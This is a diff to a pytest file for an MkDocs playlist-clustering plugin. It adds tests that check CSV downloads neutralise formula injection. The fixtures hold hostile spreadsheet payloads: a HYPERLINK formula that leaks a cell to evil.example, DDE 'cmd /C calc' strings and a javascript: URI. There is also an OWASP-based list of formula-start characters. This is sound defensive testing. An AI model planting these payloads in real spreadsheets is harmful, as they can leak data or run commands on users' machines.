@@ -14,13 +14,20 @@ import re
 
 import pytest
 from site_building import build, make_site
-from synthetic import exportify_csv, synthetic_tracks
+from synthetic import exportify_csv as rows_csv
+from synthetic import synthetic_tracks
 
-from mkdocs_playlist_clusters.downloads import FORMULA, m3u8, uri_list
+from mkdocs_playlist_clusters.downloads import EXPORTIFY_COLUMNS, exportify_csv, m3u8, uri_list
+from mkdocs_playlist_clusters.pipeline import build_playlist
+from mkdocs_playlist_clusters.playlist import PlaylistOptions
 from mkdocs_playlist_clusters.reading import read_playlist
 from mkdocs_playlist_clusters.rendering import MAX_LISTED_TRACKS
 
 TRACK_LINK = re.compile(r'<a href="https://open\.spotify\.com/track/([0-9A-Za-z]{22})">')
+# OWASP's CSV injection rule, written here apart from the code: a cell that starts with one of
+# these is run as a formula. A plain number is only a number.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
 FEATURES = ("danceability", "energy", "valence", "tempo", "loudness", "acousticness")
 
 
@@ -49,7 +56,7 @@ def built(tmp_path_factory):
     config = make_site(
         tmp_path,
         {"playlists": [{"path": "data/mix.csv", "representatives": 4}]},
-        files={"data/mix.csv": exportify_csv(rows)},
+        files={"data/mix.csv": rows_csv(rows)},
     )
     build(config)
     site = tmp_path / "site" / "playlists"
@@ -111,25 +118,86 @@ def test_all_tracks_csv_names_each_tracks_cluster(built):
         assert {r["Track URI"][14:] for r in table if r["Cluster"] == str(number)} == ids
 
 
+def runnable(cells: list[str]) -> list[str]:
+    """The cells a spreadsheet would run as formulas."""
+    return [c for c in cells if c.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(c)]
+
+
+def csv_cells(data: bytes) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"))) for cell in row]
+
+
 def test_titles_that_look_like_formulas(built):
     _, site, _ = built
-    files = sorted((site / "mix").glob("cluster-*.csv"))
-    cells = [
-        cell
-        for path in files
-        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8")))
-        for cell in row
-    ]
-    # A real title is written as it is; a formula gets the apostrophe spreadsheets respect.
-    assert "=" in cells and "+" in cells
+    files = sorted((site / "mix").glob("*.csv"))
+    cells = [cell for path in files for cell in csv_cells(path.read_bytes())]
+    # "=" alone is a formula to a spreadsheet too (an error cell): every such cell gets the
+    # apostrophe spreadsheets respect, and negative loudness stays a number.
+    assert "'=" in cells and "'+" in cells
     assert '\'=HYPERLINK("http://evil.test","click")' in cells
-    assert not [cell for cell in cells if FORMULA.match(cell)]
+    assert any(PLAIN_NUMBER.fullmatch(cell) and cell.startswith("-") for cell in cells)
+    assert not runnable(cells)
     # ... and the plugin's reader gives the titles back as they were.
     tables = [read_playlist(path.read_bytes()).tracks for path in files]
     names = [name for table in tables for name in table["name"]]
     albums = [album for table in tables for album in table["album"]]
     assert "=" in names and "+" in albums
     assert '=HYPERLINK("http://evil.test","click")' in names
+
+
+HOSTILE_URIS = (
+    '=HYPERLINK("http://evil.example/?leak="&B2,"Click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1-1",
+    "-2+3",
+    "\t=1+1",
+    "javascript:alert(1)",
+    "https://evil.example/track",
+)
+HOSTILE_TEXTS = ("- Live -", "+", "=", "@home", "'=quoted", "''+twice", "-1+1", "'Til Tuesday")
+
+
+def test_no_cell_of_any_csv_download_runs_as_a_formula_and_every_text_reads_back():
+    rows = synthetic_tracks(45, seed=4)
+    for index, uri in enumerate(HOSTILE_URIS):
+        rows[index]["Track URI"] = uri  # not a Spotify track: listed as not clustered
+        rows[index]["Track Name"] = f"Hostile {index}"
+    for index, text in enumerate(HOSTILE_TEXTS, start=len(HOSTILE_URIS)):
+        row = rows[index]
+        row["Track Name"] = row["Album Name"] = row["Record Label"] = text
+        row["Artist Name(s)"] = f"{text};Guest"
+        row["Genres"] = f"{text},pop"
+        row["Release Date"] = text
+        row["Added At"] = text
+    rows[-1]["Track URI"] = "spotify:local:Artist:Album:Local+Song:215"
+    result = build_playlist(rows_csv(rows).encode(), PlaylistOptions(title="Mix", slug="mix"))
+    downloads = {name: data for name, data in result.files.items() if name.endswith(".csv")}
+    assert "mix/all-tracks.csv" in downloads and len(downloads) >= 3
+    for name, data in downloads.items():
+        assert not runnable(csv_cells(data)), name
+        for uri in HOSTILE_URIS:
+            assert uri not in data.decode("utf-8"), (name, uri)
+    everything = list(csv.DictReader(io.StringIO(downloads["mix/all-tracks.csv"].decode())))
+    by_name = {row["Track Name"].removeprefix("'"): row for row in everything}
+    # A URI that is not Spotify's is dropped; another Spotify URI (a local file) is kept.
+    assert [by_name[f"Hostile {i}"]["Track URI"] for i in range(len(HOSTILE_URIS))] == [""] * 7
+    assert "spotify:local:Artist:Album:Local+Song:215" in {r["Track URI"] for r in everything}
+    # Read back, each text is what the plugin read from the export (to which the export's own
+    # "'=quoted" was an escaped "=quoted").
+    first = len(HOSTILE_URIS) + 2  # the line of the first row with hostile texts
+    read = read_playlist(rows_csv(rows).encode()).tracks
+    read = read[read["line"].between(first, first + len(HOSTILE_TEXTS) - 1)]
+    assert {"- Live -", "+", "=", "@home", "=quoted", "'+twice", "'Til Tuesday"} <= set(read.name)
+    back = read_playlist(downloads["mix/all-tracks.csv"]).tracks.set_index("name")
+    back = back.loc[read["name"]]
+    for column in ("album", "label", "artists", "genres", "added_at"):
+        assert back[column].tolist() == read[column].tolist(), column
+
+
+def test_appended_cells_get_the_same_rule():
+    row = [""] * len(EXPORTIFY_COLUMNS)
+    data = exportify_csv([[*row, "=cmd|' /C calc'!A0", "-3", "- why -"]], ("A", "B", "C"))
+    assert csv_cells(data)[-3:] == ["'=cmd|' /C calc'!A0", "-3", "'- why -"]
 
 
 def test_hostile_names_are_text_in_tables_and_plain_values_in_files(built):
@@ -145,7 +213,7 @@ def test_downloads_are_the_same_bytes_on_every_build(tmp_path):
     config = make_site(
         tmp_path,
         {"playlists": ["data/mix.csv"]},
-        files={"data/mix.csv": exportify_csv(synthetic_tracks(40, seed=8))},
+        files={"data/mix.csv": rows_csv(synthetic_tracks(40, seed=8))},
     )
     snapshots = []
     for _ in range(2):
@@ -180,7 +248,7 @@ def test_a_large_playlist_keeps_its_page_small_and_every_track_in_a_download(tmp
         tmp_path,
         {"playlists": ["data/big.csv"]},
         theme="mkdocs",
-        files={"data/big.csv": exportify_csv(rows)},
+        files={"data/big.csv": rows_csv(rows)},
     )
     config_text = config.read_text(encoding="utf-8").replace("plugins:\n", "plugins:\n- search\n")
     config.write_text(config_text, encoding="utf-8")
@@ -203,7 +271,7 @@ def test_a_playlist_up_to_the_limit_lists_every_member_with_its_link(tmp_path):
     config = make_site(
         tmp_path,
         {"playlists": ["data/mix.csv"]},
-        files={"data/mix.csv": exportify_csv(rows)},
+        files={"data/mix.csv": rows_csv(rows)},
     )
     build(config)
     page = (tmp_path / "site" / "playlists" / "mix" / "index.html").read_text(encoding="utf-8")
